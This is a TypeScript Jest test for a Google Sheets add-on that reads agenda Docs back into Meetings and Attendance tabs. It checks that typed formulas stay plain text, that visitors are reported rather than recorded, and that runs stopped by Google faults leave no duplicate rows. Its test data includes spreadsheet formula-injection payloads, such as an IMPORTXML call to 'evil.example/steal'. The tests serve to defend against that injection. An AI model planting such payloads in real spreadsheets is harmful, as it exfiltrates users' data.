// After a meeting the hourly run reads its agenda Doc back into the Meetings and Attendance tabs. A Doc is
// typed by people: a facilitator pastes a formula into the attendance table, types a visitor's address, ticks
// the same colleague twice, writes "=IMPORTXML(…)" or "+1" as an outcome. None of it may reach a cell as a
// formula, a stranger is reported rather than recorded, and whatever the run already recorded is never
// appended again — not after ten hourly runs, and not when Google stops a run at any call (a daily quota, a
// "slow down" rate limit, the 6-minute stop), once or twice in a row, and the next hour's run carries on.
import { setUpAndFill, applyButtonText, offersContinue, saysNothingToSend } from '../../src/emulator/bench/admin-sync';
import { passAnHour } from '../../src/emulator/bench/hourly-trigger';
import { reopenSchool, saveSchool, type SavedSchool } from '../../src/emulator/bench/reopen-school';
import { cardText, notificationText } from '../../src/emulator/cards/interact';
import { userEditDoc } from '../../src/emulator/docs';
import type { FaultKind } from '../../src/emulator/errors';
import { startSchool, type EmulatedSchool } from '../../src/emulator/harness';
import { readSheetValues } from '../../src/emulator/spreadsheet';
import { cellAt, sheetByName, spreadsheetData } from '../../src/emulator/spreadsheet/model';
import { fileIdOf } from '../../src/core/drive-id';
import { recordingCallKinds } from '../../src/emulator/bench/fault-sweep-support';
import { keepFirstGroups } from '../../src/emulator/sample-school';

const faults: FaultKind[] = ['quota', 'rateLimit', 'timeLimit'];
/**
 * Every stride-th call of the hourly run's read-back gets a fault, and every 4th stride-th call of the rest of
 * that run; READBACK_FAULT_SWEEP_STRIDE=1 (the default) tries every read-back call. Every third read-back
 * position is also stopped a second time, at the same point of the next hour's run.
 */
const stride = Number(process.env.READBACK_FAULT_SWEEP_STRIDE ?? 1);
/** Hourly runs after the faulted ones: the first finishes the read-back, the second must change nothing. */
const hoursAfterwards = 2;

jest.setTimeout(180_000);

const formulaEmail = '=IMPORTXML("https://evil.example/?who=x@evil.example","//a")';
const formulaLookingEmail = '=x@evil.example';
const outsider = 'visitor@elsewhere.example';
/** Outcomes and next steps that Sheets would run or reinterpret if written as they are. */
const trickyText = [
  '=IMPORTXML("https://evil.example/steal","//a")',
  '+1',
  '-x',
  '@x',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  ' =SUM(A1)',
  '2026-10-06',
  'TRUE',
];

interface Scenario {
  saved: SavedSchool;
  tricky: {
    /** The meeting whose attendance table holds the formulas, the visitor and the colleague ticked twice. */
    formulaAndOutsider: string;
    docName: string;
    /** The colleague ticked twice. */
    member: string;
    /** Meeting key → the outcome and next step typed into its Doc. */
    typed: Record<string, { outcome: string; nextStep: string }>;
  };
}

/**
 * A small school a month into the year: calendar in sync, agendas made, and facilitators have filled in
 * every past agenda — one of them with a formula for an address, a visitor, and a colleague ticked twice, and
 * others with outcomes and next steps that look like formulas, numbers, dates or TRUE.
 */
function schoolWithFilledAgendas(): Scenario {
  const s = startSchool({ seed: 5, staff: 30, withFindings: false });
  s.school.settings['School year end'] = '2026-12-18';
  s.school.settings['Agenda lead days'] = 28;
  // No health survey this autumn: the hourly runs below are to have nothing to do but read agendas back.
  s.school.settings['Health survey months'] = '5';
  keepFirstGroups(s.school, 3);
  setUpAndFill(s);
  syncUntilNothingToSend(s);
  generateUntilDone(s);
  // A month passes (agendas made every other week ahead of the meetings) to 13:00 in New York on 1 October:
  // the past meetings' agendas are there to read back and the coming ones are made, so the hourly runs below
  // have nothing to do but read back.
  for (const day of ['2026-09-10', '2026-09-24', '2026-10-01']) {
    s.ws.clock.nowMs = Date.parse(`${day}T17:00:00Z`);
    generateUntilDone(s);
  }
  syncUntilNothingToSend(s);

  const [header, ...rows] = readSheetValues(s.ws, s.spreadsheetId, 'Meetings');
  const col = (name: string) => header!.indexOf(name);
  const past = rows.filter(
    (r) => fileIdOf(String(r[col('Agenda')])) && (r[col('Date')] as Date).getTime() < s.ws.clock.nowMs - 86_400_000,
  );
  expect(past.length).toBeGreaterThanOrEqual(trickyText.length / 2 + 2);
  let tricky: Scenario['tricky'] | undefined;
  past.forEach((row, i) => {
    const key = String(row[col('Meeting')]);
    const docId = fileIdOf(String(row[col('Agenda')]))!;
    // The first Doc gets attendance only (its facilitator has not written outcomes yet, so every hourly run
    // reads it again); the next ones the tricky text, two values each; the rest what facilitators usually write.
    const outcome = i === 0 ? '' : (trickyText[2 * i - 2] ?? `We agreed on a rubric row (${key}).`);
    const nextStep = i === 0 ? '' : (trickyText[2 * i - 1] ?? 'Each member brings two samples.');
    let member = '';
    userEditDoc(s.ws, docId, (body) => {
      const tables = body.getTables();
      const attendance = tables[tables.length - 1]!;
      for (let r = 1; r < attendance.getNumRows(); r++) attendance.getCell(r, 2).setText(r % 4 === 0 ? '' : 'x');
      if (i === 0) {
        member = attendance.getCell(1, 1).getText();
        // A formula pasted over someone's address, a formula-looking address, a visitor, and the first member
        // ticked again further down.
        attendance.getCell(2, 1).setText(formulaEmail);
        const rows = [
          ['Someone', formulaLookingEmail, 'x'],
          ['A visitor', outsider, 'x'],
          [attendance.getCell(1, 0).getText(), member.toUpperCase(), '✓'],
        ];
        for (const cells of rows) {
          const added = attendance.appendTableRow();
          for (const text of cells) added.appendTableCell(text);
        }
      }
      const paragraphs = body.getParagraphs();
      const after = (heading: string, text: string) => {
        const at = paragraphs.findIndex((p) => p.getText() === heading);
        if (text) body.insertParagraph(body.getChildIndex(paragraphs[at]!) + 1, text);
      };
      after('Outcomes', outcome);
      after('Next steps', nextStep);
    });
    if (i === 0) tricky = { formulaAndOutsider: key, docName: s.ws.files[docId]!.name, member, typed: {} };
    else if (2 * i - 2 < trickyText.length) tricky!.typed[key] = { outcome, nextStep };
  });
  return { saved: saveSchool(s), tricky: tricky! };
}

function syncUntilNothingToSend(s: EmulatedSchool): void {
  for (let round = 0; ; round++) {
    if (round >= 5) throw new Error('Preview still finds work after five rounds of Apply');
    const preview = s.press(s.open('onSheetsHomepage'), 'Preview changes');
    if (saysNothingToSend(preview)) return;
    let shown = s.press(preview, applyButtonText(preview)!);
    for (let presses = 0; offersContinue(shown) && presses < 200; presses++) shown = s.press(shown, 'Continue');
  }
}

function generateUntilDone(s: EmulatedSchool): void {
  for (let presses = 0; presses < 20; presses++) {
    const said = notificationText(s.press(s.open('onSheetsHomepage'), 'Generate agendas')) ?? '';
    if (!/more will be made/i.test(said)) return;
  }
  throw new Error('Generate agendas still says more will be made after 20 presses');
}

/** The hourly trigger fires; a stopped run is simply retried the next hour, as in Apps Script. */
function hourlyRun(s: EmulatedSchool): void {
  try {
    passAnHour(s);
  } catch {
    // the execution was stopped (time limit); the next hour's run starts afresh
  }
}

interface RecordTabs {
  meetings: string;
  attendance: string;
  attendanceRows: number;
}

function recordTabs(s: EmulatedSchool): RecordTabs {
  const text = (name: string) =>
    readSheetValues(s.ws, s.spreadsheetId, name)
      .map((r) => JSON.stringify(r))
      .join('\n');
  return {
    meetings: text('Meetings'),
    attendance: text('Attendance'),
    attendanceRows: readSheetValues(s.ws, s.spreadsheetId, 'Attendance').length - 1,
  };
}

/** Attendance rows recorded twice for the same meeting and person. */
function duplicateAttendance(s: EmulatedSchool): string[] {
  const [header, ...rows] = readSheetValues(s.ws, s.spreadsheetId, 'Attendance');
  const keys = rows.map((r) => `${String(r[header!.indexOf('Meeting')])} ${String(r[header!.indexOf('Staff email')])}`);
  return [...new Set(keys.filter((k, i) => keys.indexOf(k) !== i))];
}

/** Cells of a tab that hold a formula rather than text: none may, in the tabs read-back writes. */
function formulaCells(s: EmulatedSchool, tab: string): string[] {
  const sheet = sheetByName(spreadsheetData(s.ws, s.spreadsheetId), tab)!;
  const found: string[] = [];
  for (let r = 1; r <= sheet.maxRows; r++) {
    for (let c = 1; c <= sheet.maxColumns; c++) {
      const formula = cellAt(sheet, r, c)?.formula;
      if (formula !== undefined) found.push(`${tab} row ${r} column ${c}: ${formula}`);
    }
  }
  return found;
}

function column(s: EmulatedSchool, tab: string, name: string): { key: string; value: unknown }[] {
  const [header, ...rows] = readSheetValues(s.ws, s.spreadsheetId, tab);
  return rows.map((r) => ({ key: String(r[0]), value: r[header!.indexOf(name)] }));
}

/** Call position → its kind (e.g. DocumentApp.openById), as the uninterrupted hourly run made them. */
const callKinds = new Map<number, string>();

let scenario: Scenario;
const consoleError = jest.spyOn(console, 'error');
const consoleWarn = jest.spyOn(console, 'warn');

beforeAll(() => {
  // The add-on logs each failure; the tests read what people see instead.
  consoleError.mockImplementation(() => undefined);
  consoleWarn.mockImplementation(() => undefined);
  scenario = schoolWithFilledAgendas();
});

afterAll(() => {
  consoleError.mockRestore();
  consoleWarn.mockRestore();
});

describe('a facilitator typing into the agenda, read back by ten hourly runs', () => {
  let s: EmulatedSchool;
  let answer: string;
  const after: RecordTabs[] = [];

  beforeAll(() => {
    s = reopenSchool(scenario.saved);
    // The admin presses Read agendas back once, to see what the Docs say; then the hourly run keeps at it.
    answer = cardText(s.press(s.open('onSheetsHomepage'), 'Read agendas back'));
    after.push(recordTabs(s));
    for (let hour = 0; hour < 10; hour++) {
      hourlyRun(s);
      after.push(recordTabs(s));
    }
  });

  it('records every past agenda, and ten hourly runs later the Attendance tab has the same rows', () => {
    expect(after[0]!.attendanceRows).toBeGreaterThan(20);
    expect(after.map((t) => t.attendanceRows)).toEqual(after.map(() => after[0]!.attendanceRows));
    for (const tabs of after) expect(tabs).toEqual(after[0]);
    expect(duplicateAttendance(s)).toEqual([]);
  });

  it('stores every formula-looking value as the text typed, never as a formula', () => {
    expect(formulaCells(s, 'Meetings')).toEqual([]);
    expect(formulaCells(s, 'Attendance')).toEqual([]);
    const outcomes = new Map(column(s, 'Meetings', 'Outcomes').map((c) => [c.key, c.value]));
    const nextSteps = new Map(column(s, 'Meetings', 'Next steps').map((c) => [c.key, c.value]));
    const typed = Object.entries(scenario.tricky.typed);
    expect(typed.length * 2).toBe(trickyText.length);
    for (const [key, { outcome, nextStep }] of typed) {
      // Each cell holds exactly what was typed, as a string (not 1, a date or true), trimmed as the Doc reads.
      expect({ key, outcome: outcomes.get(key), nextStep: nextSteps.get(key) }).toEqual({
        key,
        outcome: outcome.trim(),
        nextStep: nextStep.trim(),
      });
    }
    const emails = column(s, 'Attendance', 'Staff email').map((c) => String(c.value));
    expect(emails.every((e) => /^[a-z0-9._-]+@[a-z0-9.-]+$/.test(e))).toBe(true);
  });

  it('records neither the pasted formula nor the visitor, and names the Doc and the row of each', () => {
    const marked = column(s, 'Attendance', 'Staff email')
      .filter((c) => c.key === scenario.tricky.formulaAndOutsider)
      .map((c) => String(c.value));
    expect(marked).not.toContain(outsider);
    expect(marked.some((e) => e.includes('evil'))).toBe(false);
    // The colleague ticked twice is recorded once.
    expect(marked.filter((e) => e === scenario.tricky.member)).toHaveLength(1);
    expect(answer).toContain(`in the agenda Doc "${scenario.tricky.docName}", row 2 of the attendance table`);
    expect(answer).toContain(`"${outsider}" in the agenda Doc "${scenario.tricky.docName}", row `);
    expect(answer).toContain(`"${formulaLookingEmail}" in the agenda Doc "${scenario.tricky.docName}", row `);
    expect(answer).toMatch(/not on the group.s roster/);
    expect(answer).toContain(`row 2 of the attendance table: is not an email address — not recorded`);
  });
});

describe('read-back stopped by a Google failure at any call, once or twice in a row', () => {
  let expected: RecordTabs;
  let firstCall = 0;
  let lastCall = 0;
  const failures: string[] = [];
  let positions = 0;
  let inReadBack = 0;
  let twiceInARow = 0;

  beforeAll(() => {
    const started = Date.now();
    const s = reopenSchool(scenario.saved);
    firstCall = s.ws.meter.total + 1;
    recordingCallKinds(s, callKinds, () => passAnHour(s));
    lastCall = s.ws.meter.total;
    expected = recordTabs(s);
    for (let hour = 0; hour < hoursAfterwards; hour++) passAnHour(s);
    expect(recordTabs(s)).toEqual(expected);
    expect(expected.attendanceRows).toBeGreaterThan(20);
    const span = readBackSpan(firstCall, lastCall);

    // Every stride-th call of the read-back; every 4th stride-th call of the rest of the hourly run.
    const wanted: number[] = [];
    for (let at = span.start; at <= span.end; at += stride) wanted.push(at);
    for (let at = firstCall; at <= lastCall; at += stride * 4) if (at < span.start || at > span.end) wanted.push(at);
    wanted.sort((a, b) => a - b);
    wanted.forEach((at, i) => {
      const again = at >= span.start && at <= span.end && i % 3 === 0;
      failures.push(...faultedHours(at, faults[i % faults.length]!, again));
      if (at >= span.start && at <= span.end) inReadBack += 1;
      if (again) twiceInARow += 1;
    });
    positions = wanted.length;
    console.log(
      `Read-back fault sweep: ${positions} fault positions tried — ${inReadBack} of the read-back's calls ${span.start}–${span.end} (${twiceInARow} of them stopped twice in a row) and ${positions - inReadBack} of the rest of the hourly run's ${firstCall}–${lastCall} — faults ${faults.join(', ')}, in ${((Date.now() - started) / 1000).toFixed(1)} s`,
    );
  });

  /** How the shell reads the whole registry: one call (workspace/registry-io.ts). */
  const registryRead = 'Sheets.Spreadsheets.get';
  /** And writes it: every tab's changes at a flush in one call (workspace/write-queue.ts). */
  const registryWrite = 'Sheets.Spreadsheets.Values.batchUpdate';

  /**
   * The read-back's part of the hourly run, from the call kinds: it starts with its own reading of the
   * registry (the one before the agenda Docs are opened; each step of the hourly run reads the registry once, in
   * one Sheets API call) and ends with the last write before the run goes on to what is next.
   */
  function readBackSpan(first: number, last: number): { start: number; end: number } {
    const calls = [...callKinds].filter(([at]) => at >= first && at <= last);
    const opened = calls.filter(([, kind]) => kind === 'DocumentApp.openById').map(([at]) => at);
    expect(opened.length).toBeGreaterThan(5);
    const registryReads = calls.filter(([at, kind]) => kind === registryRead && at < opened[0]!).map(([at]) => at);
    const start = registryReads.at(-1)!;
    // It ends with its last write before the hourly run's next job reads the registry again, or moves on to
    // another service.
    const nextRead = calls.find(
      ([at, kind]) => at > opened.at(-1)! && !kind.startsWith('SpreadsheetApp') && kind !== registryWrite,
    );
    const writes = calls.filter(
      ([at, kind]) => at > opened.at(-1)! && at < (nextRead?.[0] ?? last + 1) && kind === registryWrite,
    );
    const end = writes.at(-1)?.[0] ?? (nextRead?.[0] ?? last + 1) - 1;
    expect(callKinds.get(start)).toBe(registryRead);
    expect(callKinds.get(end)).toBe(registryWrite);
    return { start, end };
  }

  /** One hourly run with a fault at `at` (and, `again`, the next run at the same point), then the next hours. */
  function faultedHours(at: number, fault: FaultKind, again: boolean): string[] {
    const where = `${fault} at call ${at} (${callKinds.get(at) ?? '?'})${again ? ', and again in the next run' : ''}`;
    const s = reopenSchool(scenario.saved);
    s.ws.meter.inject({ atCall: at, fault });
    hourlyRun(s);
    if (again) {
      s.ws.meter.clearFaults();
      s.ws.meter.inject({ atCall: s.ws.meter.total + 1 + (at - firstCall), fault });
      hourlyRun(s);
    }
    s.ws.meter.clearFaults();
    for (let hour = 0; hour < hoursAfterwards; hour++) hourlyRun(s);
    const found: string[] = [];
    const outcome = recordTabs(s);
    if (outcome.attendanceRows !== expected.attendanceRows)
      found.push(`${where}: ${outcome.attendanceRows} Attendance rows, not ${expected.attendanceRows}`);
    if (outcome.attendance !== expected.attendance) found.push(`${where}: the Attendance tab differs`);
    if (outcome.meetings !== expected.meetings) found.push(`${where}: the Meetings tab differs`);
    const duplicates = duplicateAttendance(s);
    if (duplicates.length) found.push(`${where}: recorded twice: ${duplicates.join('; ')}`);
    return found;
  }

  it('ends, once the next hourly run has carried on, with the tabs an uninterrupted run writes', () => {
    expect(positions).toBeGreaterThan(10);
    expect(failures).toEqual([]);
  });
});
